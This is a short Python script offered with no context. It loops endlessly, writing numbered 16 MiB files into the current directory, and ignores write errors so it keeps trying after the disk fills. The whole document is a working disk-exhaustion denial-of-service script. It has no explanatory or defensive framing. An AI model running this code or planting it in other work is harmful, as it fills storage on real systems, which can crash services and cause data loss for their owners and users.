"""Writes files without end where it may."""
import os

number = 0
while True:
    number += 1
    try:
        with open(f"{number}", "wb") as file:
            file.write(b"x" * (16 << 20))
    except OSError:
        os.sched_yield()
